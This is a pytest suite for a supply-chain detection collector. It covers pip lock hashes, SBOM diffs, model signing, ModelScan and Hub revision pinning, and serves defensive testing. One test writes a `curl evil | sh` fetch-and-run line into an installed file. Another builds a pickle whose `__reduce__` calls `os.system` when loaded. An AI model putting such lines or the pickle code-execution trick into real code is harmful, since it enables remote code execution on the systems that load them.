"""Supply-chain collector against the real tools: a pip venv, CycloneDX validation, model_signing, ModelScan.

Every scenario ends on the embedded engine: the events of a tampered, unsigned, malicious or
unpinned input fire the matching rule of `rules/supply_chain/`, the benign look-alikes fire none.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import http.server
import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aisoc.collectors.supply_chain import (
    ModelSigningPolicy,
    diff_sboms,
    fetch_hub_model_info,
    map_hub_model_info,
    map_modelscan_report,
    parse_lock,
    run_modelscan,
    verify_environment,
    verify_model_signature,
)
from aisoc.detect.engine import run_rule
from aisoc.detect.store import EventStore
from aisoc.records import Rejected
from aisoc.rules.loader import load_rules
from aisoc.schema import load_registry

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "supply_chain"
PENDING = ROOT / "aisoc" / "schema" / "pending" / "supply_data.yml"
WHEN = "2026-01-02T12:00:00Z"

RULES, _FINDINGS = load_rules([ROOT / "rules" / "supply_chain"])
RULE_BY_FILE = {r.path.stem: r for r in RULES}
HASH_MISMATCH = "python_package_hash_mismatch"
NOT_IN_LOCK = "python_package_not_in_lock"
SBOM_HASH = "sbom_component_hash_changed_same_version"
SBOM_MODEL = "sbom_model_component_changed_without_approval"
SIGNATURE = "model_signature_invalid_or_missing"
UNSAFE_OP = "modelscan_unsafe_operator"
UNPARSEABLE = "modelscan_unparseable_model"
UNPINNED = "hub_model_unpinned_revision"


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing here may leave the machine: connections to anything but loopback fail."""
    real_connect = socket.socket.connect

    def connect(self: socket.socket, address: Any) -> Any:
        host = address[0] if isinstance(address, tuple) else address
        if isinstance(host, str) and host not in ("127.0.0.1", "::1", "localhost") and self.family != socket.AF_UNIX:
            raise OSError(f"test tried to reach {host}: no network in collector tests")
        return real_connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)


def fired(events: list[Any]) -> dict[str, set[str]]:
    """Rule file stem -> event ids it matched, over the embedded engine."""
    events = [e for e in events if not isinstance(e, Rejected)]
    store = EventStore()
    try:
        store.insert(events)
        result: dict[str, set[str]] = {}
        for rule in RULES:
            ids = {i for m in run_rule(store, rule) for i in m.event_ids}
            if ids:
                result[rule.path.stem] = ids
        return result
    finally:
        store.close()


def events_only(items: list[Any]) -> list[dict[str, Any]]:
    assert all(isinstance(i, dict) for i in items), [i for i in items if isinstance(i, Rejected)]
    return items


def test_rule_pack_loads_every_supply_chain_rule() -> None:
    assert {HASH_MISMATCH, NOT_IN_LOCK, SBOM_HASH, SBOM_MODEL, SIGNATURE, UNSAFE_OP, UNPARSEABLE, UNPINNED} <= set(
        RULE_BY_FILE)


# ---- 1. a real venv, a wheel built here, a hash-pinned lock ------------------------------------------


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(directory: Path, name: str = "tinypkg", version: str = "1.0.0") -> Path:
    """A real, minimal pure-Python wheel (zip + dist-info with METADATA, WHEEL, RECORD)."""
    files = {
        f"{name}/__init__.py": b"def hello():\n    return 'hi'\n",
        f"{name}/model_utils.py": b"def load(path):\n    return open(path, 'rb').read()\n",
        f"{name}-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{name}-{version}.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: aisoc-tests\nRoot-Is-Purelib: true\n"
                                             b"Tag: py3-none-any\n",
    }
    record = "".join(f"{p},{_record_hash(d)},{len(d)}\n" for p, d in files.items())
    record += f"{name}-{version}.dist-info/RECORD,,\n"
    wheel = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for path, data in files.items():
            zf.writestr(path, data)
        zf.writestr(f"{name}-{version}.dist-info/RECORD", record)
    return wheel


@pytest.fixture(scope="module")
def venv(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A real virtualenv with the locally built wheel installed by pip, offline."""
    root = tmp_path_factory.mktemp("env")
    wheel = build_wheel(root)
    env_dir = root / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(env_dir)], check=True, timeout=300)
    python = env_dir / "bin" / "python"
    subprocess.run([str(python), "-m", "pip", "install", "--no-index", "--disable-pip-version-check", "-q",
                    str(wheel)], check=True, timeout=300)
    inspect = json.loads(subprocess.run([str(python), "-m", "pip", "inspect", "--disable-pip-version-check"],
                                        check=True, capture_output=True, timeout=300).stdout)
    site = next(Path(i["metadata_location"]).parent for i in inspect["installed"]
                if i["metadata"]["name"] == "tinypkg")
    return {"python": python, "wheel": wheel, "inspect": inspect, "site": site,
            "wheel_sha": hashlib.sha256(wheel.read_bytes()).hexdigest(), "root": root}


BOOTSTRAP = {"pip": "venv-bootstrap", "setuptools": "venv-bootstrap"}


def _by_name(events: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {e["package.name"]: e for e in events}


def test_clean_environment_verifies_and_fires_nothing(venv: dict[str, Any]) -> None:
    lock = f"tinypkg==1.0.0 \\\n    --hash=sha256:{'0' * 64} \\\n    --hash=sha256:{venv['wheel_sha']}\n"
    events = events_only(verify_environment(venv["inspect"], None, lock, approvals=BOOTSTRAP, host="build-1",
                                            observed_at=WHEN))
    tiny = _by_name(events)["tinypkg"]
    assert tiny["event.action"] == "package-verified"
    assert tiny["aisoc.supply_chain.lock.pinned"] is True
    assert tiny["aisoc.supply_chain.hash_match"] is True
    assert tiny["package.checksum"] == f"sha256:{venv['wheel_sha']}"
    assert tiny["aisoc.supply_chain.lock.expected_sha256"] == f"sha256:{'0' * 64} sha256:{venv['wheel_sha']}"
    assert tiny["aisoc.supply_chain.record.mismatched_files"] == 0
    assert tiny["event.outcome"] == "success" and tiny["host.name"] == "build-1"
    assert _by_name(events)["pip"]["aisoc.change.approved"] is True
    assert fired(events) == {}


def test_tampered_installed_file_is_a_record_mismatch(venv: dict[str, Any], tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    shutil.copytree(venv["site"], site, symlinks=True)
    (site / "tinypkg" / "model_utils.py").write_text("import os\nos.system('curl evil | sh')\n")
    lock = f"tinypkg==1.0.0 --hash=sha256:{venv['wheel_sha']}\n"
    events = events_only(verify_environment(venv["inspect"], site, lock, approvals=BOOTSTRAP, observed_at=WHEN))
    tiny = _by_name(events)["tinypkg"]
    assert tiny["aisoc.supply_chain.record.mismatched_files"] == 1
    assert tiny["aisoc.supply_chain.record.mismatched_paths"] == ["tinypkg/model_utils.py"]
    assert tiny["aisoc.supply_chain.hash_match"] is True  # the wheel was right; its files changed afterwards
    assert tiny["event.outcome"] == "failure"
    assert fired(events) == {HASH_MISMATCH: {tiny["event.id"]}}
    (site / "tinypkg" / "__init__.py").unlink()
    again = _by_name(events_only(verify_environment(venv["inspect"], site, lock, approvals=BOOTSTRAP)))["tinypkg"]
    assert again["aisoc.supply_chain.record.mismatched_files"] == 2


def test_wheel_hash_not_allowed_by_the_lock(venv: dict[str, Any]) -> None:
    lock = f"tinypkg==1.0.0 --hash=sha256:{'a' * 64}\n"
    events = events_only(verify_environment(venv["inspect"], venv["site"], lock, approvals=BOOTSTRAP))
    tiny = _by_name(events)["tinypkg"]
    assert tiny["aisoc.supply_chain.hash_match"] is False
    assert set(fired(events)) == {HASH_MISMATCH}


def test_package_outside_the_lock_or_at_another_version(venv: dict[str, Any]) -> None:
    for lock in ("numpy==2.1.3 --hash=sha256:" + "b" * 64 + "\n",
                 f"tinypkg==0.9.0 --hash=sha256:{venv['wheel_sha']}\n"):
        events = events_only(verify_environment(venv["inspect"], venv["site"], lock, approvals=BOOTSTRAP))
        tiny = _by_name(events)["tinypkg"]
        assert tiny["aisoc.supply_chain.lock.pinned"] is False
        assert fired(events) == {NOT_IN_LOCK: {tiny["event.id"]}}
    # the same package approved by a change ticket stays quiet
    approved = events_only(verify_environment(venv["inspect"], venv["site"], "", approvals={
        **BOOTSTRAP, "tinypkg==1.0.0": "SEC-771"}))
    assert _by_name(approved)["tinypkg"]["aisoc.change.ticket"] == "SEC-771"
    assert fired(approved) == {}


def test_unapproved_bootstrap_packages_are_reported(venv: dict[str, Any]) -> None:
    events = events_only(verify_environment(venv["inspect"], venv["site"], f"tinypkg==1.0.0 --hash=sha256:"
                                                                            f"{venv['wheel_sha']}\n"))
    names = {e["package.name"] for e in events if e["aisoc.supply_chain.lock.pinned"] is False}
    assert "pip" in names and "tinypkg" not in names


def test_wheel_hash_from_a_pip_install_report(venv: dict[str, Any]) -> None:
    setuptools = next(i for i in venv["inspect"]["installed"] if i["metadata"]["name"] == "setuptools")
    version = setuptools["metadata"]["version"]
    report = {"version": "1", "install": [{"metadata": {"name": "setuptools", "version": version},
                                           "download_info": {"url": "https://files.example/setuptools.whl",
                                                             "archive_info": {"hashes": {"sha256": "c" * 64}}}}]}
    lock = f"setuptools=={version} --hash=sha256:{'c' * 64}\n"
    events = _by_name(events_only(verify_environment(venv["inspect"], venv["site"], lock, install_report=report,
                                                     approvals={"pip": "x", "tinypkg": "y"})))
    assert events["setuptools"]["aisoc.supply_chain.hash_match"] is True
    assert events["setuptools"]["aisoc.supply_chain.record.mismatched_files"] == 0


def test_replay_is_deterministic(venv: dict[str, Any]) -> None:
    lock = f"tinypkg==1.0.0 --hash=sha256:{venv['wheel_sha']}\n"
    first = verify_environment(venv["inspect"], venv["site"], lock, observed_at=WHEN, host="h")
    second = verify_environment(json.dumps(venv["inspect"]).encode(), venv["site"], lock, observed_at=WHEN, host="h")
    assert [e["event.id"] for e in first] == [e["event.id"] for e in second]


def test_lock_parsing() -> None:
    lock = """# via pip-compile --generate-hashes
--index-url https://pypi.example/simple
Torch[cuda]==2.5.1 ; python_version >= "3.10" \\
    --hash=sha256:AAAA000000000000000000000000000000000000000000000000000000000001 \\
    --hash=sha256:aaaa000000000000000000000000000000000000000000000000000000000002
    # via transformers
tokenizers==0.20.3 --hash=sha256:9c4f0a1100000000000000000000000000000000000000000000000000000000
requests>=2  # not a pin
-e ./local-package
!!!
"""
    entries, rejected = parse_lock(lock)
    assert entries["torch"].version == "2.5.1"
    assert entries["torch"].sha256 == ("aaaa" + "0" * 59 + "1", "aaaa" + "0" * 59 + "2")
    assert entries["tokenizers"].line == 7
    assert entries["requests"].version is None
    assert [r.source for r in rejected] == ["lock:10"]


# ---- 2. CycloneDX SBOM diff ----------------------------------------------------------------------------


def _sbom(name: str) -> dict[str, Any]:
    return json.loads((FIXTURES / name).read_text())


def test_approved_upgrade_in_the_sbom_fires_nothing() -> None:
    events = events_only(diff_sboms(_sbom("sbom_build_1041.cdx.json"),
                                    _sbom("sbom_build_1042_approved_upgrade.cdx.json")))
    changes = {(e["package.name"], e["aisoc.supply_chain.sbom.change"]) for e in events}
    assert changes == {("numpy", "version_changed"), ("fraud-detector", "version_changed"), ("colorama", "removed")}
    model = next(e for e in events if e["package.name"] == "fraud-detector")
    assert model["package.type"] == "machine-learning-model"
    assert model["aisoc.change.approved"] is True and model["aisoc.change.ticket"] == "CHG-5521"
    assert model["aisoc.model.version"] == "16" and model["aisoc.model.previous_version"] == "15"
    assert model["aisoc.supply_chain.sbom.previous_version"] == "15"
    assert model["aisoc.supply_chain.sbom.serial_number"] == "urn:uuid:9b1d0c7e-1111-4a4a-8c8c-000000000002"
    assert model["aisoc.supply_chain.build.id"] == "build-1042"
    assert model["@timestamp"] == "2026-01-02T10:00:00.000Z"
    assert fired(events) == {}


def test_tampered_sbom_fires_the_hash_and_model_rules() -> None:
    events = events_only(diff_sboms(_sbom("sbom_build_1041.cdx.json"), _sbom("sbom_build_1043_tampered.cdx.json")))
    by = {e["package.name"]: e for e in events}
    assert by["torch"]["aisoc.supply_chain.sbom.change"] == "hash_changed"
    assert by["torch"]["aisoc.supply_chain.sbom.previous_checksum"] != by["torch"]["package.checksum"]
    assert by["someuser/helpful-llm"]["aisoc.supply_chain.sbom.change"] == "added"
    assert by["fraud-detector"]["aisoc.change.approved"] is False
    hits = fired(events)
    assert hits[SBOM_HASH] == {by["torch"]["event.id"]}
    assert hits[SBOM_MODEL] == {by["fraud-detector"]["event.id"], by["someuser/helpful-llm"]["event.id"]}
    assert set(hits) == {SBOM_HASH, SBOM_MODEL}


def test_external_approval_mapping() -> None:
    events = events_only(diff_sboms(_sbom("sbom_build_1041.cdx.json"), _sbom("sbom_build_1043_tampered.cdx.json"),
                                    approvals={"someuser/helpful-llm@main": "CHG-7000", "fraud-detector": "CHG-7001"}))
    assert set(fired(events)) == {SBOM_HASH}


def test_invalid_sbom_is_rejected_with_the_validator_message() -> None:
    bad = _sbom("sbom_build_1043_tampered.cdx.json")
    bad["components"][0]["type"] = "trojan"
    result = diff_sboms(_sbom("sbom_build_1041.cdx.json"), bad)
    assert len(result) == 1 and isinstance(result[0], Rejected)
    assert "'trojan' is not one of" in result[0].reason and "new SBOM" in result[0].reason
    unknown_key = _sbom("sbom_build_1041.cdx.json")
    unknown_key["surprise"] = 1  # strict validation: additional properties are not allowed
    assert isinstance(diff_sboms(unknown_key, _sbom("sbom_build_1041.cdx.json"))[0], Rejected)
    assert "specVersion" in diff_sboms({**_sbom("sbom_build_1041.cdx.json"), "specVersion": "9.9"},
                                       _sbom("sbom_build_1041.cdx.json"))[0].reason


def test_identical_sboms_have_no_changes() -> None:
    assert diff_sboms(_sbom("sbom_build_1041.cdx.json"), _sbom("sbom_build_1041.cdx.json")) == []


# ---- 3. OpenSSF model signing, offline ------------------------------------------------------------------


def _pem_private(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption())


def _cert(subject: str, issuer: str, key: Any, issuer_key: Any, *, ca: bool, san: str | None = None) -> Any:
    now = dt.datetime.now(dt.UTC)
    builder = (x509.CertificateBuilder()
               .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
               .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, issuer)]))
               .public_key(key.public_key()).serial_number(x509.random_serial_number())
               .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=30))
               .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
               .add_extension(x509.KeyUsage(digital_signature=not ca, content_commitment=False, key_encipherment=False,
                                            data_encipherment=False, key_agreement=False, key_cert_sign=ca,
                                            crl_sign=ca, encipher_only=False, decipher_only=False), critical=True))
    if not ca:
        builder = builder.add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CODE_SIGNING]), critical=False)
    if san:
        builder = builder.add_extension(x509.SubjectAlternativeName([x509.UniformResourceIdentifier(san)]),
                                        critical=False)
    return builder.sign(issuer_key, hashes.SHA256())


TRAIN_IDENTITY = "https://github.com/acme/ml/.github/workflows/train.yml@refs/heads/main"


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """An EC signing key, and a CA with a code-signing leaf certificate, generated here."""
    root = tmp_path_factory.mktemp("pki")
    key = ec.generate_private_key(ec.SECP256R1())
    (root / "signer.key").write_bytes(_pem_private(key))
    (root / "signer.pub").write_bytes(key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    other = ec.generate_private_key(ec.SECP384R1())
    (root / "other.pub").write_bytes(other.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    (root / "other.key").write_bytes(_pem_private(other))
    for prefix, ca_name in (("", "acme ML signing CA"), ("rogue-", "rogue CA")):
        ca_key = ec.generate_private_key(ec.SECP256R1())
        ca = _cert(ca_name, ca_name, ca_key, ca_key, ca=True)
        leaf_key = ec.generate_private_key(ec.SECP256R1())
        leaf = _cert("train-pipeline", ca_name, leaf_key, ca_key, ca=False, san=TRAIN_IDENTITY)
        (root / f"{prefix}ca.pem").write_bytes(ca.public_bytes(serialization.Encoding.PEM))
        (root / f"{prefix}leaf.pem").write_bytes(leaf.public_bytes(serialization.Encoding.PEM))
        (root / f"{prefix}leaf.key").write_bytes(_pem_private(leaf_key))
    return {p.name: p for p in root.iterdir()}


def _model(directory: Path) -> Path:
    model = directory / "fraud-detector"
    (model / "tokenizer").mkdir(parents=True)
    (model / "model.safetensors").write_bytes(os.urandom(4096))
    (model / "config.json").write_text('{"architectures": ["FraudNet"], "hidden_size": 64}')
    (model / "tokenizer" / "vocab.txt").write_text("[PAD]\n[UNK]\nfraud\nlegit\n")
    return model


def _sign_key(model: Path, signature: Path, private_key: Path) -> None:
    from model_signing import signing

    signing.Config().use_elliptic_key_signer(private_key=private_key).sign(model, signature)


def _sign_cert(model: Path, signature: Path, pki: dict[str, Path], prefix: str = "") -> None:
    from model_signing import signing

    signing.Config().use_certificate_signer(
        private_key=pki[f"{prefix}leaf.key"], signing_certificate=pki[f"{prefix}leaf.pem"],
        certificate_chain=[pki[f"{prefix}ca.pem"]]).sign(model, signature)


def _verify(model: Path, signature: Path, policy: ModelSigningPolicy) -> dict[str, Any]:
    event = verify_model_signature(model, signature, policy, model_name="fraud-detector", model_version="15",
                                   observed_at=WHEN)
    assert isinstance(event, dict), event
    return event


def test_key_signed_model_verifies_then_tampering_is_a_digest_mismatch(tmp_path: Path, pki: dict[str, Path]) -> None:
    model, signature = _model(tmp_path), tmp_path / "fraud-detector.sig"
    _sign_key(model, signature, pki["signer.key"])
    policy = ModelSigningPolicy(public_keys={"ml-pipeline": pki["signer.pub"]})
    ok = _verify(model, signature, policy)
    assert ok["event.action"] == "model-signature-verified"
    assert (ok["file.code_signature.exists"], ok["file.code_signature.valid"], ok["file.code_signature.trusted"]) == (
        True, True, True)
    assert ok["file.code_signature.status"] == "verified" and ok["file.code_signature.subject_name"] == "ml-pipeline"
    assert ok["aisoc.model.artifact.hash_match"] is True
    assert ok["aisoc.model.artifact.sha256"] == ok["aisoc.model.artifact.expected_sha256"]

    (model / "model.safetensors").write_bytes(os.urandom(4096))
    bad = _verify(model, signature, policy)
    assert bad["file.code_signature.valid"] is False and bad["file.code_signature.status"] == "digest mismatch"
    assert "changed: model.safetensors" in bad["message"]
    assert bad["aisoc.model.artifact.hash_match"] is False and bad["event.outcome"] == "failure"
    (model / "backdoor.py").write_text("import os\n")
    worse = _verify(model, signature, policy)
    assert "not signed: backdoor.py" in worse["message"]

    signature.unlink()
    missing = _verify(model, signature, policy)
    assert missing["file.code_signature.exists"] is False and missing["file.code_signature.status"] == "no signature"
    assert "file.code_signature.valid" not in missing
    assert fired([ok]) == {}
    assert fired([bad, missing]) == {SIGNATURE: {bad["event.id"], missing["event.id"]}}


def test_signature_inside_the_model_directory(tmp_path: Path, pki: dict[str, Path]) -> None:
    model = _model(tmp_path)
    _sign_key(model, model / "model.sig", pki["signer.key"])  # signed before the file existed: then it is extra
    policy = ModelSigningPolicy(public_keys={"ml-pipeline": pki["signer.pub"]})
    assert _verify(model, model / "model.sig", policy)["file.code_signature.valid"] is True


def test_key_the_policy_does_not_know(tmp_path: Path, pki: dict[str, Path]) -> None:
    model, signature = _model(tmp_path), tmp_path / "m.sig"
    _sign_key(model, signature, pki["other.key"])
    event = _verify(model, signature, ModelSigningPolicy(public_keys={"ml-pipeline": pki["signer.pub"]}))
    assert event["file.code_signature.trusted"] is False and event["file.code_signature.status"] == "unknown key"
    assert event["file.code_signature.subject_name"].startswith("key:sha256:")
    assert event["aisoc.model.artifact.hash_match"] is True  # the files still match what was signed
    assert set(fired([event])) == {SIGNATURE}


def test_certificate_signed_model(tmp_path: Path, pki: dict[str, Path]) -> None:
    model, signature = _model(tmp_path), tmp_path / "m.sig"
    _sign_cert(model, signature, pki)
    trusted = ModelSigningPolicy(certificate_chain=[pki["ca.pem"]], trusted_identities=["https://github.com/acme/*"])
    ok = _verify(model, signature, trusted)
    assert ok["file.code_signature.subject_name"] == TRAIN_IDENTITY
    assert ok["file.code_signature.valid"] is True and ok["file.code_signature.trusted"] is True

    nobody = ModelSigningPolicy(certificate_chain=[pki["ca.pem"]], trusted_identities=["release@vendor.example"])
    untrusted = _verify(model, signature, nobody)
    assert untrusted["file.code_signature.valid"] is True and untrusted["file.code_signature.trusted"] is False
    assert untrusted["file.code_signature.status"] == "untrusted signer"

    rogue_sig = tmp_path / "rogue.sig"
    _sign_cert(model, rogue_sig, pki, prefix="rogue-")
    rogue = _verify(model, rogue_sig, trusted)
    assert rogue["file.code_signature.status"] == "untrusted certificate chain"
    assert rogue["file.code_signature.valid"] is True and rogue["file.code_signature.trusted"] is False

    (model / "config.json").write_text('{"architectures": ["FraudNet"], "hidden_size": 65}')
    tampered = _verify(model, signature, trusted)
    assert tampered["file.code_signature.status"] == "digest mismatch"
    assert fired([ok]) == {}
    assert fired([untrusted, rogue, tampered]) == {SIGNATURE: {untrusted["event.id"], rogue["event.id"],
                                                               tampered["event.id"]}}


def test_unreadable_signature_and_missing_model(tmp_path: Path, pki: dict[str, Path]) -> None:
    model = _model(tmp_path)
    policy = ModelSigningPolicy(public_keys={"k": pki["signer.pub"]})
    for content in (b"{", b"\xff\xfe", b'{"dsseEnvelope": {"payload": "!!"}}', b"[]", b'{"mediaType": 1}'):
        (tmp_path / "x.sig").write_bytes(content)
        event = _verify(model, tmp_path / "x.sig", policy)
        assert event["file.code_signature.status"] == "unreadable signature"
        assert event["file.code_signature.valid"] is False
    gone = verify_model_signature(tmp_path / "nope", tmp_path / "x.sig", policy)
    assert isinstance(gone, Rejected) and "does not exist" in gone.reason


# ---- 4. ModelScan: a malicious pickle built (never loaded) here ---------------------------------------


class _Payload:
    """Pickles to a call of os.system on load; pickling it runs nothing."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, ("echo pwned",))


def _scan_cli(path: Path, out: Path) -> dict[str, Any]:
    exe = Path(sys.executable).parent / "modelscan"
    proc = subprocess.run([str(exe), "-p", str(path), "-r", "json", "-o", str(out)], capture_output=True,
                          timeout=300)
    assert out.exists(), proc.stderr.decode()
    return json.loads(out.read_text())


def test_malicious_pickle_fires_the_unsafe_operator_rule(tmp_path: Path) -> None:
    evil = tmp_path / "model.pkl"
    evil.write_bytes(pickle.dumps(_Payload()))
    report = _scan_cli(evil, tmp_path / "report.json")
    event = map_modelscan_report(report, evil, model_name="fraud-detector", model_version="15")
    assert isinstance(event, dict), event
    assert event["aisoc.supply_chain.scan.max_severity"] == "critical"
    assert event["aisoc.supply_chain.scan.issue_count"] == 1
    assert event["aisoc.supply_chain.scan.operator"] == ["system"]
    assert event["aisoc.supply_chain.scan.module"] == ["posix" if os.name == "posix" else "nt"]
    assert event["file.extension"] == "pkl" and event["file.path"] == str(evil)
    assert set(fired([event])) == {UNSAFE_OP}


def test_benign_pickle_and_directory_scan_fire_nothing(tmp_path: Path) -> None:
    model_dir = tmp_path / "model"
    model_dir.mkdir()
    (model_dir / "weights.pkl").write_bytes(pickle.dumps({"w": [0.1, 0.2], "b": 0.0}))
    (model_dir / "README.md").write_text("# a model\n")
    event = map_modelscan_report(run_modelscan(model_dir), model_dir, repo_id="acme/fraud")
    assert isinstance(event, dict), event
    assert event["aisoc.supply_chain.scan.max_severity"] == "none"
    assert event["aisoc.supply_chain.scan.issue_count"] == 0
    assert event["event.outcome"] == "success" and "error.type" not in event
    assert fired([event]) == {}


def test_truncated_pickle_fires_the_unparseable_rule(tmp_path: Path) -> None:
    broken = tmp_path / "pytorch_model.pkl"
    broken.write_bytes(pickle.dumps(_Payload())[:-3])
    event = map_modelscan_report(run_modelscan(broken), broken)
    assert isinstance(event, dict), event
    assert event["error.type"] == "PICKLE_GENOPS" and event["event.outcome"] == "failure"
    assert set(fired([event])) == {UNPARSEABLE}


# ---- 5. Hugging Face Hub model info, replayed over real HTTP -------------------------------------------


@pytest.fixture(scope="module")
def hub() -> Iterator[str]:
    """The documented `/api/models/{repo}/revision/{rev}` JSON served from fixtures on loopback."""
    routes = {
        "/api/models/distilbert/distilbert-base-uncased/revision/12040accade4e8a0f71eabdb258fecc2e7e948be":
            FIXTURES / "hub_distilbert_base_uncased.json",
        "/api/models/distilbert/distilbert-base-uncased/revision/main": FIXTURES / "hub_distilbert_base_uncased.json",
        "/api/models/someuser/helpful-llm/revision/main": FIXTURES / "hub_someuser_helpful_llm.json",
    }

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            path, _, query = self.path.partition("?")
            target = routes.get(path)
            if target is None or query != "blobs=true":
                self.send_response(404)
                self.end_headers()
                return
            body = target.read_bytes()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


DISTILBERT_SHA = "12040accade4e8a0f71eabdb258fecc2e7e948be"


def test_pinned_revision_is_quiet_and_a_branch_fires(hub: str) -> None:
    pinned_info = fetch_hub_model_info("distilbert/distilbert-base-uncased", DISTILBERT_SHA, endpoint=hub)
    pinned = map_hub_model_info(pinned_info, DISTILBERT_SHA, endpoint=hub, expected_hashes={
        "model.safetensors": "6f7d3e2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e"})
    assert isinstance(pinned, dict)
    assert pinned["aisoc.supply_chain.hub.revision_pinned"] is True
    assert pinned["aisoc.supply_chain.hash_match"] is True
    assert pinned["aisoc.supply_chain.hub.repo_id"] == "distilbert/distilbert-base-uncased"
    assert pinned["aisoc.model.version"] == DISTILBERT_SHA
    branch = map_hub_model_info(fetch_hub_model_info("someuser/helpful-llm", "main", endpoint=hub), "main",
                                expected_hashes={"pytorch_model.bin": "1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4"
                                                                      "c5d6e7f8a9b0c1d2e"})
    assert isinstance(branch, dict)
    assert branch["aisoc.supply_chain.hub.revision_pinned"] is False
    assert branch["aisoc.supply_chain.hash_match"] is False and "pytorch_model.bin" in branch["message"]
    short = map_hub_model_info(pinned_info, DISTILBERT_SHA[:7])
    assert isinstance(short, dict) and short["aisoc.supply_chain.hub.revision_pinned"] is False
    assert fired([pinned]) == {}
    assert fired([branch, short]) == {UNPINNED: {branch["event.id"], short["event.id"]}}


def test_pinned_sha_the_hub_did_not_resolve() -> None:
    info = json.loads((FIXTURES / "hub_distilbert_base_uncased.json").read_text())
    event = map_hub_model_info(info, "0" * 40)
    assert isinstance(event, dict) and event["aisoc.supply_chain.hash_match"] is False


# ---- schema and bad input ------------------------------------------------------------------------------


def _declared() -> set[str]:
    pending = yaml.safe_load(PENDING.read_text())["fields"]
    return set(load_registry().fields) | {f["name"] for f in pending}


def test_every_emitted_field_is_declared(venv: dict[str, Any], tmp_path: Path, pki: dict[str, Path]) -> None:
    events: list[Any] = []
    events += verify_environment(venv["inspect"], venv["site"], f"tinypkg==1.0.0 --hash=sha256:{venv['wheel_sha']}")
    events += diff_sboms(_sbom("sbom_build_1041.cdx.json"), _sbom("sbom_build_1043_tampered.cdx.json"))
    model = _model(tmp_path)
    _sign_key(model, tmp_path / "m.sig", pki["signer.key"])
    events.append(_verify(model, tmp_path / "m.sig", ModelSigningPolicy(public_keys={"k": pki["signer.pub"]})))
    events.append(map_modelscan_report({"summary": {"scanned": {"total_scanned": 1}}, "issues": [
        {"severity": "HIGH", "operator": "exec", "module": "builtins", "source": "x.pkl"}], "errors": [
        {"category": "MODEL_SCAN", "description": "boom", "source": "y.bin"}]}, "x.pkl", host="h"))
    events.append(map_hub_model_info(json.loads((FIXTURES / "hub_someuser_helpful_llm.json").read_text()), "main"))
    declared = _declared()
    for event in events_only(events):
        assert set(event) <= declared, set(event) - declared


json_values = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-(10**30), max_value=10**30) | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner, max_size=6),
    max_leaves=30)


def _assert_handled(result: Any) -> None:
    items = result if isinstance(result, list) else [result]
    events = [i for i in items if not isinstance(i, Rejected)]
    store = EventStore()
    try:
        store.insert(events)  # whatever came out is storable
    finally:
        store.close()


FUZZ = settings(max_examples=60, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])


@FUZZ
@given(data=st.binary(max_size=300) | json_values.map(lambda v: json.dumps(v).encode()))
def test_arbitrary_input_never_raises(data: bytes) -> None:
    _assert_handled(verify_environment(data, None, ""))
    _assert_handled(diff_sboms(data, data))
    _assert_handled(map_modelscan_report(data, "m.pkl"))
    _assert_handled(map_hub_model_info(data, "main"))


@FUZZ
@given(value=json_values)
def test_arbitrary_json_shapes_never_raise(value: Any) -> None:
    shaped = [{"installed": [value]}, {"installed": [{"metadata": value, "metadata_location": value}]},
              {"summary": value, "issues": [value], "errors": value}, {"id": value, "siblings": [value], "sha": value},
              {"issues": [{"severity": value, "operator": value}]}]
    for doc in shaped:
        _assert_handled(verify_environment(doc, None, "x==1"))
        _assert_handled(map_modelscan_report(doc, "m.pkl"))
